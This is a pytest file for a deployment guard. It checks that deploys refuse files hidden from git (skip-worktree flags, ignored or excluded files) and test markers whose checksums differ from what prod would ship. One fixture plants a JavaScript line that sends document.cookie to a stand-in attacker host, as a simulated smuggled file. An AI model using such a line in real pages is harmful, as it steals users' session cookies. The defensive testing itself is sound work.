"""The prod deploy guard (#13.12): every way to ship something other than the commit, tried.

A deploy records "commit <sha>" in its marker, and prod trusts test's marker. Each test here
builds one way the files that ship could differ from the commit without ``git status`` showing
it (a flag that hides changes, an ignored or excluded file picked up from the folder), or a test
marker whose checksum of what shipped is not what prod would ship, and checks the deploy refuses
with a sentence naming the file or part, before anything changed.
"""

from __future__ import annotations

import json

import pytest

from tests.deployment.conftest import Aws, Checkout, git
from tests.deployment.test_deploy import expected_checksums, marker, untouched

CLEAR = "clear the flags, move the files out of the shipped folders (or commit them), or pass --allow-dirty (test only)\n"


def refused(checkout: Checkout, *lines: str) -> str:
    return (
        f"deploy: refusing to deploy {checkout.sha[:12]} to test: what would be shipped is not what git shows "
        "for the commit:\n" + "".join(f"    {line}\n" for line in lines) + CLEAR
    )


# ---------------------------------------------------------------------------------------------
# (b) tree states git does not show
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("flag", ["skip-worktree", "assume-unchanged"])
def test_a_flag_that_hides_a_change_is_refused(aws: Aws, checkout: Checkout, flag: str) -> None:
    git(checkout.path, "update-index", f"--{flag}", "presign_lambda/keys.py")
    checkout.write("presign_lambda/keys.py", "ALLOW_EVERYTHING = True\n")
    assert git(checkout.path, "status", "--porcelain") == ""  # what the old guard looked at

    run = checkout.deploy("test", "--skip-dagster", env=aws.env())

    assert (run.returncode, run.stdout) == (3, "")
    assert run.stderr == refused(
        checkout,
        f"presign_lambda/keys.py: {flag} is set, so git does not show its changes "
        f"(git update-index --no-{flag} -- presign_lambda/keys.py)",
    )
    assert untouched(aws, "test")

    # a test deploy may go through with --allow-dirty, and says so in its marker
    allowed = checkout.deploy("test", "--skip-dagster", "--allow-dirty", env=aws.env())
    assert allowed.returncode == 0, allowed.stderr
    assert marker(aws, "test", checkout.sha)["uncommitted_changes"] is True


def test_a_flag_is_refused_even_on_an_unchanged_file(aws: Aws, checkout: Checkout) -> None:
    git(checkout.path, "update-index", "--skip-worktree", "dashboard/src/chart_templates.css")

    run = checkout.deploy("test", "--skip-dagster", "--dry-run", env=aws.env())

    assert run.returncode == 3
    assert "dashboard/src/chart_templates.css: skip-worktree is set" in run.stderr


def test_an_excluded_page_file_that_would_ship_is_refused(aws: Aws, checkout: Checkout) -> None:
    (checkout.path / ".git" / "info" / "exclude").write_text("dashboard/src/extra.js\n")
    checkout.write("dashboard/src/extra.js", "fetch('https://evil.example/' + document.cookie)\n")
    assert git(checkout.path, "status", "--porcelain") == ""

    run = checkout.deploy("test", "--skip-dagster", env=aws.env())

    assert run.returncode == 3
    assert run.stderr == refused(
        checkout, "dashboard/src/extra.js: ignored by git (.gitignore or .git/info/exclude), but it would ship"
    )
    assert untouched(aws, "test")


def test_an_ignored_lambda_module_the_handler_imports_is_refused(aws: Aws, checkout: Checkout) -> None:
    checkout.write(".gitignore", "__pycache__/\npresign_lambda/extra.py\n")
    handler = checkout.path / "presign_lambda" / "handler.py"
    handler.write_text(handler.read_text() + "\nfrom presign_lambda import extra  # noqa: E402,F401\n")
    checkout.write("presign_lambda/extra.py", "SECRET = 'only on this laptop'\n")
    checkout.commit("the handler imports extra")
    assert git(checkout.path, "status", "--porcelain") == ""

    run = checkout.deploy("test", "--skip-dagster", env=aws.env())

    assert run.returncode == 3
    assert run.stderr == refused(
        checkout, "presign_lambda/extra.py: ignored by git (.gitignore or .git/info/exclude), but it would ship"
    )
    assert untouched(aws, "test")


def test_an_ignored_file_in_the_image_context_is_refused_but_not_bytecode(aws: Aws, checkout: Checkout) -> None:
    (checkout.path / "cdr_dagster" / "sample_data").mkdir(parents=True)
    checkout.write("cdr_dagster/__init__.py", '"""The package."""\n')
    checkout.commit("the package")
    checkout.write(".gitignore", "__pycache__/\n*.pyc\n*.local.csv\n")
    checkout.commit("ignore local files")
    checkout.write("cdr_dagster/sample_data/tokens.local.csv", "token\nsecret\n")
    (checkout.path / "cdr_dagster" / "__pycache__").mkdir()
    (checkout.path / "cdr_dagster" / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")  # .dockerignore'd
    assert git(checkout.path, "status", "--porcelain") == ""

    run = checkout.deploy("test", "--dry-run", env=aws.env())

    assert run.returncode == 3
    assert run.stderr == refused(
        checkout, "cdr_dagster/sample_data/tokens.local.csv: ignored by git (.gitignore or .git/info/exclude), but it would ship"
    )
    # without the image, that file does not ship: the deploy goes through
    assert checkout.deploy("test", "--dry-run", "--skip-dagster", env=aws.env()).returncode == 0


def test_untracked_and_modified_files_are_listed_once(aws: Aws, checkout: Checkout) -> None:
    (checkout.path / ".git" / "info" / "exclude").write_text("dashboard/src/hidden.js\n")
    checkout.write("dashboard/src/hidden.js", "// hidden\n")
    checkout.write("dashboard/src/new.js", "// new, untracked\n")

    run = checkout.deploy("test", "--skip-dagster", env=aws.env())

    assert run.returncode == 3
    assert run.stderr == (
        f"deploy: refusing to deploy {checkout.sha[:12]} to test: the working tree differs from the commit in what "
        "would be shipped:\n    ?? dashboard/src/new.js\n"
        "    dashboard/src/hidden.js: ignored by git (.gitignore or .git/info/exclude), but it would ship\n"
        "commit them, or pass --allow-dirty (test only)\n"
    )


# ---------------------------------------------------------------------------------------------
# (a) prod compares its checksum of what ships with test's marker
# ---------------------------------------------------------------------------------------------


def rewrite_test_marker(aws: Aws, checkout: Checkout, change) -> None:
    """Edit test's marker of the checkout's commit as a differing test deploy would have left it."""
    s3 = aws.client("s3")
    key = f"deployments/{checkout.sha}.json"
    document = json.loads(s3.get_object(Bucket="cdr-dashboard-test", Key=key)["Body"].read())
    change(document)
    s3.put_object(Bucket="cdr-dashboard-test", Key=key, Body=json.dumps(document).encode())


def prod_refusal(checkout: Checkout, parts: str) -> str:
    sha = checkout.sha
    return (
        f"deploy: refusing to deploy {sha[:12]} to prod: what would ship differs from what test recorded in "
        f"s3://cdr-dashboard-test/deployments/{sha}.json: {parts}. Deploy from a clean checkout of {sha[:12]} (the "
        "same one that went to test), or deploy it to test again from here; --force-unverified skips this check.\n"
    )


def test_prod_refuses_when_test_shipped_another_zip(aws: Aws, checkout: Checkout) -> None:
    assert checkout.deploy("test", "--skip-dagster", env=aws.env()).returncode == 0

    def other_zip(document: dict) -> None:
        document["checksums"]["lambda_zip"] = "0" * 64  # test ran code built from other bytes

    rewrite_test_marker(aws, checkout, other_zip)

    run = checkout.deploy("prod", "--skip-dagster", env=aws.env())

    assert (run.returncode, run.stderr) == (3, prod_refusal(checkout, "the Lambda zip"))
    assert untouched(aws, "prod")


def test_prod_refuses_when_test_shipped_other_page_files_or_another_image_tree(aws: Aws, checkout: Checkout) -> None:
    assert checkout.deploy("test", "--skip-dagster", env=aws.env()).returncode == 0

    def other_files(document: dict) -> None:
        document["checksums"]["viz"]["viz/v2/cdr_page.js"] = "1" * 64
        document["checksums"]["viz"]["viz/v2/extra.js"] = "2" * 64  # a file only test had
        document["checksums"]["image_tree"] = "3" * 64

    rewrite_test_marker(aws, checkout, other_files)

    run = checkout.deploy("prod", "--skip-dagster", env=aws.env())

    assert (run.returncode, run.stderr) == (
        3,
        prod_refusal(checkout, "viz/v2/cdr_page.js, viz/v2/extra.js, the image's source tree"),
    )
    assert untouched(aws, "prod")


def test_prod_refuses_a_test_marker_without_checksums(aws: Aws, checkout: Checkout) -> None:
    assert checkout.deploy("test", "--skip-dagster", env=aws.env()).returncode == 0
    rewrite_test_marker(aws, checkout, lambda document: document.pop("checksums"))

    run = checkout.deploy("prod", "--skip-dagster", env=aws.env())

    sha = checkout.sha
    assert (run.returncode, run.stderr) == (
        3,
        f"deploy: refusing to deploy {sha[:12]} to prod: s3://cdr-dashboard-test/deployments/{sha}.json records no "
        "checksum of what was shipped (an older deploy.py wrote it), so it cannot show test ran what would ship now. "
        "Deploy it to test again; --force-unverified skips this check.\n",
    )
    assert untouched(aws, "prod")


def test_prod_after_an_identical_test_deploy_records_the_same_checksums(aws: Aws, checkout: Checkout) -> None:
    assert checkout.deploy("test", "--skip-dagster", env=aws.env()).returncode == 0

    run = checkout.deploy("prod", "--skip-dagster", env=aws.env())

    assert run.returncode == 0, run.stderr
    expected = expected_checksums(checkout)
    assert marker(aws, "prod", checkout.sha)["checksums"] == marker(aws, "test", checkout.sha)["checksums"] == expected
